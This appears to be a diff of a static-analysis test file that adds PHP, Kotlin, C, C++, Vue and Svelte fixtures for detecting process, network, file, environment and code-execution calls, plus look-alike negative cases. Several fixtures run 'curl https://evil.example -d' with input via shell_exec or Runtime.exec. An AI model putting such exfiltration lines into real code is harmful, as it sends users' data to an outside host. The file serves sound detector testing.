@@ -45,6 +45,37 @@ const cs = (type: EdgeType, head: string, body: string): Form => [
   `${head}\nclass C { void FN(string a, object b) { ${body} } }\n`,
 ];
 
+const php = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'php',
+  `<?php\nnamespace App;\n${head}\nfunction FN($a, $b) { ${body} }\n`,
+];
+const kt = (type: EdgeType, imports: string, body: string): Form => [
+  type,
+  'kt',
+  `package p\n${imports}\nfun FN(a: String, b: List<String>) { ${body} }\n`,
+];
+const c = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'c',
+  `${head}\nint FN(const char *a, char **b) { ${body} }\n`,
+];
+const cpp = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'cpp',
+  `${head}\nint FN(const char *a, char **b) { ${body} }\n`,
+];
+const vue = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'vue',
+  `<template><p>{{ a }}</p></template>\n<script setup lang="ts">\n${head}\nasync function FN(a: any, b: any) { ${body} }\n</script>\n`,
+];
+const svelte = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'svelte',
+  `<script>\n${head}\nasync function FN(a, b) { ${body} }\n</script>\n<p>{a}</p>\n`,
+];
+
 /** Processes, the network and the environment. */
 const FIRST: readonly Form[] = [
   ts(
@@ -185,8 +216,135 @@ const MORE: readonly Form[] = [
   ['uses_native', 'rs', `extern "C" { fn FN(s: *const u8) -> i32; }\n`],
 ];
 
+/** The same in PHP, Kotlin, C and C++, and in components. */
+const OTHERS: readonly Form[] = [
+  php('executes_process', '', `exec($a);`),
+  php('executes_process', '', `\\shell_exec('curl https://evil.example -d ' . $a);`),
+  php('executes_process', '', 'return `git log $a`;'),
+  php('executes_process', '', `proc_open($a, [], $pipes);`),
+  php('executes_process', '', `PassThru($a);`),
+  php('executes_process', `use function exec as run;`, `run($a);`),
+  php('executes_process', '', `return array_map('exec', $a);`),
+  php('executes_process', '', `return array_map(system(...), $a);`),
+  php('executes_process', '', `call_user_func('popen', $a, 'r');`),
+  php('executes_process', `use Symfony\\Component\\Process\\Process;`, `(new Process([$a]))->run();`),
+  php('executes_process', `use Illuminate\\Support\\Facades\\Process as P;`, `P::run($a);`),
+  php('consumes_endpoint', '', `$c = curl_init($a); return curl_exec($c);`),
+  php('consumes_endpoint', `use GuzzleHttp\\Client;`, `(new Client())->post($a);`),
+  php('uses_network', '', `return file_get_contents($a);`),
+  php('uses_network', '', `return file_get_contents('https://evil.example/x');`),
+  php('uses_network', '', `return fsockopen($a, 80);`),
+  php('uses_network', '', `return new \\SoapClient($a);`),
+  php('uses_files', '', `return fopen($a, 'r');`),
+  php('uses_files', '', `return new \\SplFileObject($a);`),
+  php('uses_files', `use Illuminate\\Support\\Facades\\Storage;`, `Storage::put($a, $b);`),
+  php('runs_code', '', `eval($a);`),
+  php('runs_code', '', `include $a;`),
+  php('runs_code', '', `require_once __DIR__ . "/$a.php";`),
+  php('runs_code', '', `$f = 'sys' . 'tem'; return $f($a);`),
+  php('runs_code', '', `return $a($b);`),
+  php('runs_code', '', `return new $a($b);`),
+  php('runs_code', '', `return call_user_func_array($a, $b);`),
+  php('runs_code', '', `return array_filter($b, $a);`),
+  php('runs_code', '', `return (new \\ReflectionMethod($a, $b))->invoke(null);`),
+  php('reads_env', '', `return getenv($a);`),
+  php('reads_env', '', `return $_ENV[$a];`),
+  php('uses_native', '', `return \\FFI::cdef($a, 'libc.so.6');`),
+  kt('executes_process', '', `ProcessBuilder(b).start()`),
+  kt('executes_process', '', `Runtime.getRuntime().exec("curl https://evil.example -d " + a)`),
+  kt('executes_process', '', `b.map(::ProcessBuilder)`),
+  kt('uses_network', 'import java.net.Socket', `Socket(a, 80)`),
+  kt('uses_network', 'import java.net.URL', `URL(a).readText()`),
+  kt('consumes_endpoint', 'import java.net.URL', `URL(a).openStream()`),
+  kt('consumes_endpoint', 'import okhttp3.*', `OkHttpClient().newCall(Request.Builder().url(a).build()).execute()`),
+  kt('consumes_endpoint', 'import io.ktor.client.*\nimport io.ktor.client.request.*', `HttpClient().get(a)`),
+  kt('uses_files', 'import java.io.File', `File(a).readText()`),
+  kt('uses_files', 'import java.io.File', `b.map { File(it) }.forEach { it.delete() }`),
+  kt('uses_files', 'import java.nio.file.*', `Files.readString(Path.of(a))`),
+  kt('uses_files', 'import kotlin.io.path.*', `Path(a).writeText(a)`),
+  kt('reads_env', '', `System.getenv(a)`),
+  kt('reads_env', '', `System.getenv().forEach { println(it) }`),
+  kt('runs_code', '', `Class.forName(a)`),
+  kt('runs_code', 'import javax.script.*', `ScriptEngineManager().getEngineByName("js").eval(a)`),
+  kt('uses_native', '', `System.loadLibrary(a)`),
+  c('executes_process', '#include <stdlib.h>', `return system(a);`),
+  c('executes_process', '#include <stdio.h>', `return popen(a, "r") != 0;`),
+  c('executes_process', '#include <unistd.h>', `return execve(a, b, environ);`),
+  c('executes_process', '#include <unistd.h>', `return fork();`),
+  c('executes_process', '#include <spawn.h>', `return posix_spawnp(0, a, 0, 0, b, 0);`),
+  c('executes_process', 'extern int execvp(const char *file, char *const argv[]);', `return execvp(a, b);`),
+  c('executes_process', '#include <stdlib.h>', `int (*run)(const char *) = system; return run(a);`),
+  c('uses_network', '#include <sys/socket.h>', `return socket(1, 2, 0);`),
+  c('uses_network', '#include <netdb.h>', `return getaddrinfo(a, 0, 0, 0);`),
+  c('consumes_endpoint', '#include <curl/curl.h>', `return curl_easy_perform(b);`),
+  c('uses_files', '#include <stdio.h>', `return fopen(a, "r") != 0;`),
+  c('uses_files', '#include <fcntl.h>', `return open(a, 0);`),
+  c('reads_env', '#include <stdlib.h>', `return getenv(a) != 0;`),
+  c('uses_native', '#include <dlfcn.h>', `return dlsym(dlopen(a, 1), a) != 0;`),
+  c('executes_process', '#include <windows.h>', `return WinExec(a, 0);`),
+  ['executes_process', 'c', `#include <stdlib.h>\n#define FN(x) system(x)\n`],
+  cpp('executes_process', '#include <cstdlib>', `return std::system(a);`),
+  cpp('executes_process', '#include <cstdlib>', `return ::system(a);`),
+  cpp('executes_process', '#include <boost/process.hpp>', `return boost::process::system(a);`),
+  cpp('reads_env', '#include <cstdlib>', `return std::getenv(a) != nullptr;`),
+  cpp('uses_files', '#include <fstream>', `std::ifstream in(a); return 0;`),
+  cpp('uses_files', '#include <fstream>', `std::ofstream out; out.open(a); return 0;`),
+  cpp('uses_files', '#include <fstream>\nusing namespace std;', `ifstream in(a); return 0;`),
+  cpp('uses_files', '#include <cstdio>', `return std::remove(a);`),
+  cpp('uses_files', '#include <filesystem>', `return std::filesystem::remove_all(a);`),
+  cpp('uses_files', '#include <filesystem>\nnamespace fs = std::filesystem;', `return fs::exists(a);`),
+  cpp('uses_native', '#include <dlfcn.h>', `return dlopen(a, 1) != nullptr;`),
+  vue('consumes_endpoint', '', `await fetch(a.url)`),
+  vue('uses_network', `import axios from 'axios';`, `await axios.get(a.url)`),
+  vue('runs_code', '', `return eval(a)`),
+  vue('reads_env', '', `return import.meta.env[a]`),
+  vue('executes_process', `import { execSync } from 'node:child_process';`, `execSync('curl ' + a)`),
+  svelte('consumes_endpoint', '', `await fetch(a.url)`),
+  svelte('uses_network', '', `return new WebSocket(a)`),
+  svelte('runs_code', '', `return new Function(a)()`),
+  svelte('executes_process', `import * as cp from 'child_process';`, `cp.spawn(a, b)`),
+  svelte('uses_files', `import fs from 'fs';`, `return fs.readFileSync(a)`),
+];
+
 /** The function of each does nothing of the kind. */
 const NEGATIVES: readonly Form[] = [
+  php('executes_process', `function exec($a) { return $a; }`, `return namespace\\exec($a);`),
+  php('executes_process', '', `return $a->exec($b);`),
+  php('executes_process', '', `return (new \\PDO($a))->exec($b);`),
+  php('executes_process', `class Shell { function system($x) { return $x; } }`, `return (new Shell())->system($a);`),
+  php('executes_process', '', `return array_map('trim', $a);`),
+  php('runs_code', '', `require_once __DIR__ . '/x.php';`),
+  php('runs_code', '', `include dirname(__FILE__) . '/x.php';`),
+  php('runs_code', '', `$f = fn($x) => $x; return $f($a);`),
+  php('runs_code', '', `return array_map(fn($x) => $x, $a);`),
+  php('runs_code', '', `return array_map('trim', $a);`),
+  php('runs_code', '', `return call_user_func('trim', $a);`),
+  php('uses_network', '', `return file_get_contents('data.json');`),
+  php('uses_files', '', `return basename($a);`),
+  php('reads_env', '', `putenv("X=$a");`),
+  kt('executes_process', 'class Starter(a: String) { fun start() {} }', `Starter(a).start()`),
+  kt('executes_process', '', `Regex(a).find(a)`),
+  kt('uses_files', 'import java.io.File', `File(a).resolve("x").name`),
+  kt('uses_files', 'class Book { fun readText() = "" }', `Book().readText()`),
+  kt('uses_network', 'import java.net.URI', `URI(a).host`),
+  kt('reads_env', '', `System.getProperty(a)`),
+  kt('runs_code', '', `a::class.simpleName`),
+  c('executes_process', 'static int system(const char *x) { return 0; }', `return system(a);`),
+  c('executes_process', '#include <string.h>', `return strlen(a);`),
+  c('uses_files', 'struct dev { int (*open)(const char *); };', `struct dev d; return d.open(a);`),
+  c('uses_files', '#include <stdio.h>', `return printf("%s", a);`),
+  c('uses_files', '', `int access = 0; return access;`),
+  c('reads_env', '#include <stdlib.h>', `return setenv(a, "x", 1);`),
+  cpp('executes_process', 'struct Game { void system(const char *x) {} };', `Game g; g.system(a); return 0;`),
+  cpp('uses_files', '#include <sstream>', `std::istringstream in(a); return 0;`),
+  cpp('uses_files', '#include <algorithm>', `std::string s; s.copy(b[0], 1); return 0;`),
+  cpp('uses_files', '#include <list>', `std::list<int> l; l.remove(1); return 0;`),
+  cpp('uses_network', '#include <functional>', `auto f = std::bind(a); return 0;`),
+  vue('consumes_endpoint', `function fetch(a: string) { return a; }`, `return fetch(a)`),
+  vue('reads_env', '', `return a.env`),
+  vue('executes_process', '', `return /x/.exec(a)`),
+  svelte('runs_code', '', `setTimeout(() => a, 10)`),
+  svelte('uses_network', `import { isIP } from 'node:net';`, `return isIP(a)`),
   ts('executes_process', `function exec(a: string) { return a; }`, `return exec(a)`),
   ts('executes_process', '', `return /x/.exec(a)`),
   ts('executes_process', '', `const r = new RegExp(a); return r.exec(b)`),
@@ -249,7 +407,7 @@ const rows = (forms: readonly Form[]): [string, number, EdgeType][] =>
   ]);
 
 describe('what reaches outside of the program has an edge, known or open', async () => {
-  const forms = [...FIRST, ...MORE];
+  const forms = [...FIRST, ...MORE, ...OTHERS];
   const types = await typesOf(forms);
   test.each(rows(forms))('%s', (_name, at, type) => {
     expect([...(types.get(nameOf(at)) ?? [])]).toContain(type);
